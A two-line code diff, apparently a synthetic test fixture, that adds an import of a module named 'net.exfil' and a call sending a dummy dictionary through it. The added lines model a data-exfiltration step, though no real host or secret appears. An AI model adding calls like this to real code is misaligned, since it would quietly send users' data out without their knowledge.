@@ -1,0 +1,2 @@
+import net.exfil
+net.exfil.send({'k': 1})
